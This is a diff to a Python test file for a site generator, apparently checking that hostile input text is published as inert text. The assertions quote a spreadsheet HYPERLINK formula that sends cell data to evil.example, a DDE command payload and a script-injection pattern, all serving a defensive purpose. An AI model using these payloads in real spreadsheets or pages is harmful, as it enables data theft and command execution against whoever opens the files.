@@ -11,6 +11,8 @@ laughs" or walks seventeen billion empty cells fails the test instead of the mac
 from __future__ import annotations
 
 import contextlib
+import csv
+import html
 import io
 import json
 import os
@@ -20,12 +22,14 @@ import shutil
 import subprocess
 import sys
 import time
+import zipfile
 from pathlib import Path
 
+import openpyxl
 import pytest
 import yaml
 
-from generator.check.problems import Problem, printable
+from generator.check.problems import SHOWN, Problem, Report, printable
 from generator.cli import main as cli_main
 from generator.pipeline import load_and_judge
 from plan_fixture import write_plan
@@ -194,7 +198,7 @@ def test_corpus_is_complete_and_every_file_is_used():
     assert len(CASES) == len(MANIFEST["cases"]), "case names must be unique"
     used = {source for case in CASES.values() for source in (case.get("files") or {}).values()}
     used |= {source for case in CASES.values() for source in (case.get("links") or {}).values() if not source.startswith("/")}
-    used |= set(MANIFEST["base"].values())
+    used |= set(MANIFEST["base"].values()) | set(MANIFEST["published"]["files"].values())
     on_disk = {p.relative_to(HOSTILE).as_posix() for p in HOSTILE.rglob("*")
                if p.is_file() and p.parent != HOSTILE and "__pycache__" not in p.parts}
     assert used == on_disk
@@ -208,3 +212,71 @@ def test_binary_cases_are_what_the_script_writes():
     # In its own process: the script chooses how openpyxl writes XML before openpyxl is imported.
     result = subprocess.run([sys.executable, str(HOSTILE / "make_binary_cases.py"), "--check"], capture_output=True, text=True)
     assert result.returncode == 0, f"run tests/hostile/make_binary_cases.py again:\n{result.stdout}{result.stderr}"
+
+
+# Issue 10: what a good build publishes, and what happens to a build ---------------------------------
+
+PUBLISHED = MANIFEST["published"]
+EXTENSION_B_FONT = "HanaMinB"
+
+
+def _page_text(page: str) -> str:
+    return re.sub(r"\s+", "", html.unescape(re.sub(r"<[^>]+>", "", page)))
+
+
+def _published_check(name: str, site: Path) -> None:
+    downloads = site / "downloads"
+    if name == "csv-cells-are-text":
+        cells = [c for path in downloads.glob("*.csv")
+                 for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))) for c in row]
+        assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")" in cells and "'-2+3" in cells and "'@SUM(A1:A9)" in cells
+        assert not [c for c in cells if c.startswith(("=", "+", "-", "@")) and not re.fullmatch(r"[-+]?\d+(\.\d+)?", c)]
+    elif name == "xlsx-has-no-formula":
+        for path in downloads.glob("*.xlsx"):
+            with zipfile.ZipFile(path) as archive:
+                sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
+            assert sheets and not any(b"<f>" in sheet for sheet in sheets), path
+            values = [c.value for row in openpyxl.load_workbook(path).active.iter_rows() for c in row]
+            assert "=cmd|' /C calc'!A0" in values  # the text, kept exactly, as text
+    elif name == "pdf-has-extension-b-font":
+        pdf = next((downloads / "bulletins").glob("*-2022-bulletin.pdf"))
+        fonts = subprocess.run(["pdffonts", str(pdf)], capture_output=True, text=True, check=True).stdout
+        assert EXTENSION_B_FONT in fonts, fonts
+    else:
+        raise AssertionError(f"unknown check {name}")
+
+
+@pytest.mark.slow
+def test_hostile_text_a_build_publishes(good_project, tmp_path):
+    root = tmp_path / "project"
+    shutil.copytree(good_project, root, symlinks=True)
+    apply({"files": PUBLISHED["files"]}, root)
+    for _ in range(2):  # the second build reads the ledger the first one wrote
+        result = run_build(root, limited=False)
+        assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr
+    pages = {p: p.read_text(encoding="utf-8") for p in (root / "site").rglob("*.html")}
+    shown = "".join(_page_text(page) for page in pages.values())
+    for path, page in pages.items():
+        assert not re.search(r"<script>alert|<hr\b", page), path  # nothing from a file is live markup
+        title = re.search(r"<title>(.*?)</title>", page, re.S).group(1)
+        assert "<" not in title, (path, title)
+    for case in PUBLISHED["cases"]:
+        for text in case.get("shown") or []:
+            assert re.sub(r"\s+", "", text) in shown, (case["name"], text)
+        if case.get("check"):
+            _published_check(case["check"], root / "site")
+
+
+def test_every_event_of_the_manifest_is_held_by_a_test():
+    for event in MANIFEST["events"]:
+        path, name = event["test"].split("::")
+        source = (ROOT / path).read_text(encoding="utf-8")
+        assert re.search(rf"^def {name}\(", source, re.M), event["name"]
+
+
+def test_a_flood_of_problems_is_cut_to_a_readable_report():
+    problems = [Problem("unknown-indicator", "规划中没有这个指标编号", "data/p/huge.csv", "指标编号", row=n) for n in range(2, 1_000_002)]
+    report = Report(problems).render()
+    assert report.startswith("发现 1000000 个问题")
+    assert len(report.splitlines()) == 1 + SHOWN + 1
+    assert report.splitlines()[-1].strip() == f"……及其他 {1_000_000 - SHOWN} 个问题（改好以上问题后重新运行即可看到）"
